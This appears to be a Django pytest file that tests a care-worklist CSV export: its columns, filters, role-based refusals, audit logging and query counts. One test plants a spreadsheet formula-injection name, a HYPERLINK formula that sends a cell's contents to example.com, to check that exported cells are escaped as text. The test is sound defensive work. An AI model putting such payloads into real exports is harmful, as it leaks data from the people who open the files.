"""The worklist as a spreadsheet (/worklist/csv/): every row its filters select on every page,
the page's columns in words, safe to open, for the same users as the page, audited, and in a
number of queries that does not grow with the caseload."""

import datetime

import pytest
import time_machine
from django.core.cache import caches
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tandem import testing
from tandem.accounts.models import Role
from tandem.audit.models import AuditAction, AuditEvent
from tandem.ui.tests.csv_files import read_csv
from tandem.worklist.tests.caseload import make_caseload
from tandem.worklist.tests.test_worklist_page import concern, ready_plan

pytestmark = pytest.mark.django_db

TODAY = datetime.date(2026, 6, 1)
URL = reverse("worklist:list_csv")
HEADER = [
    "Person",
    "What is due",
    "Why",
    "Due on",
    "Urgent",
    "Days overdue",
    "Escalated",
    "Where it is done",
]


@pytest.fixture(autouse=True)
def today():
    with time_machine.travel(datetime.datetime(2026, 6, 1, 9, tzinfo=datetime.UTC), tick=False):
        yield


def test_it_holds_the_pages_columns_in_words(client_for, worker, person):
    plan = ready_plan(person, worker, sent_on=TODAY - datetime.timedelta(days=3))
    response = client_for(worker).get(URL)
    assert response["Content-Disposition"] == 'attachment; filename="worklist-2026-06-01.csv"'
    header, *rows = read_csv(response)
    assert header == HEADER
    agree = f"http://testserver{reverse('plans:agree', args=[plan.pk])}"
    assert rows == [
        [
            "Priya Patel",
            "Record agreement to version 1 of the plan",
            rows[0][2],
            "2026-05-29",
            "No",
            "3",
            "",
            agree,
        ]
    ]
    assert rows[0][2].endswith("(A1)")  # why, with its rule


def test_urgent_and_escalated_work_say_so(client_for, worker, manager, person):
    ready_plan(person, worker)
    concern(person, worker, immediate_risk=True)
    rows = read_csv(client_for(worker).get(URL))[1:]
    assert [(row[4], row[5]) for row in rows][:2] == [("Yes", "0"), ("No", "0")]
    with time_machine.travel(datetime.datetime(2026, 6, 20, 9, tzinfo=datetime.UTC)):
        managers = read_csv(client_for(manager).get(URL))[1:]
        workers = read_csv(client_for(worker).get(URL))[1:]
    assert ["19", "Escalated to you"] in [row[5:7] for row in managers]
    assert ["19", "Escalated to your manager"] in [row[5:7] for row in workers]


def test_it_holds_every_row_the_filters_select_on_every_page(client_for, worker, org, team):
    people = [testing.make_person(org, team, allocated_worker=worker) for _ in range(30)]
    for p in people:
        ready_plan(p, worker)
    concern(people[0], worker)
    client = client_for(worker)
    assert len(read_csv(client.get(URL))) == 1 + 32  # 25 on the page's first page
    agreements = read_csv(client.get(URL, {"kind": "agreement", "page": "2"}))[1:]
    assert len(agreements) == 30
    assert {row[1] for row in agreements} == {"Record agreement to version 1 of the plan"}
    theirs = read_csv(client.get(URL, {"person": people[0].pk}))[1:]
    assert len(theirs) == 3 and {row[0] for row in theirs} == {people[0].full_name}
    # The page links to the file with its filters (not its page number).
    html = client.get(reverse("worklist:list"), {"kind": "agreement", "page": "2"}).text
    assert f'href="{URL}?kind=agreement"' in html


def test_a_name_that_would_run_as_a_formula_is_kept_as_text(client_for, worker, org, team):
    sneaky = testing.make_person(
        org,
        team,
        given_name='=HYPERLINK("http://example.com/?x="&A1,"Open")',
        family_name="@Smith",
        allocated_worker=worker,
    )
    ready_plan(sneaky, worker)
    rows = read_csv(client_for(worker).get(URL))[1:]
    assert rows[0][0] == "'" + sneaky.full_name
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("query", [{"kind": "nonsense"}, {"person": "abc"}, {"person": str(10**9)}])
def test_a_bad_filter_gives_the_page_and_its_message_not_a_file(client_for, worker, person, query):
    ready_plan(person, worker)
    last = AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
    response = client_for(worker).get(URL, query)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "There is a problem" in response.text and "from the list" in response.text
    # What was read is what the page showed: one view of the page, no download.
    event = AuditEvent.objects.get(pk__gt=last)
    assert "format" not in event.detail and event.detail["page"] == 1


def test_an_empty_worklist_gives_a_file_with_only_its_header(client_for, worker, person):
    assert read_csv(client_for(worker).get(URL)) == [HEADER]
    assert f'href="{URL}' not in client_for(worker).get(reverse("worklist:list")).text


@pytest.mark.parametrize("role", [Role.PERSON, Role.CARER, Role.PROVIDER, Role.ADMINISTRATOR])
def test_people_carers_providers_and_administrators_are_refused(
    client_for, org, team, worker, person, role
):
    ready_plan(person, worker)
    user = testing.make_user(org, role=role, teams=(team,))
    before = AuditEvent.objects.count()
    response = client_for(user).get(URL)
    assert response.status_code == 403
    assert AuditEvent.objects.count() == before


def test_someone_signed_out_is_asked_to_sign_in(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_another_workers_people_are_never_in_it(client_for, worker, person, other_team_worker):
    ready_plan(person, worker)
    rows = read_csv(client_for(other_team_worker).get(URL))
    assert rows == [HEADER]


def test_a_download_is_one_event_with_its_filters_rows_and_everyone_in_it(
    client_for, worker, org, team
):
    people = [testing.make_person(org, team, allocated_worker=worker) for _ in range(3)]
    for p in people:
        ready_plan(p, worker)
    before = AuditEvent.objects.count()
    client_for(worker).get(URL, {"kind": "agreement"})
    assert AuditEvent.objects.count() == before + 1
    event = AuditEvent.objects.first()
    assert (event.action, event.actor) == (AuditAction.WORKLIST_VIEW, worker)
    assert event.summary == "Downloaded their worklist as a spreadsheet"
    assert event.detail == {
        "filters": {"kind": "agreement"},
        "format": "csv",
        "rows": 3,
        "people": sorted(p.pk for p in people),
    }


def _queries(client, *, kept: bool = False, **params) -> int:
    """As on a new day, no one's due items kept yet (tandem.worklist.due); with `kept`, as when
    the page is read again."""
    caches["due"].clear()
    if kept:
        client.get(URL, params)
    with CaptureQueriesContext(connection) as captured:
        response = client.get(URL, params)
        rows = read_csv(response)  # the file is made as it is sent: count those queries too
    assert len(rows) > 1
    return len(captured.captured_queries)


def test_the_number_of_queries_does_not_grow_with_the_caseload(
    client_for, org, team, manager, settings
):
    settings.DUE_CACHE_CHECK = False  # as in production: kept items are not worked out again
    worker = testing.make_worker(org, team)
    make_caseload(org, team, worker, 10, TODAY)
    clients = {"worker": client_for(worker), "manager": client_for(manager)}
    for client in clients.values():
        client.get(reverse("worklist:list"))  # the session, once
    small = {name: _queries(c) for name, c in clients.items()}
    small["filtered"] = _queries(clients["worker"], kind="action")
    small |= {f"{name} kept": _queries(c, kept=True) for name, c in clients.items()}

    make_caseload(org, team, worker, 190, TODAY, start=10)
    testing.analyze_tables()
    large = {name: _queries(c) for name, c in clients.items()}
    large["filtered"] = _queries(clients["worker"], kind="action")
    large |= {f"{name} kept": _queries(c, kept=True) for name, c in clients.items()}
    assert large == small
    assert len(read_csv(clients["worker"].get(URL, {"kind": "action"}))) > 25 + 1
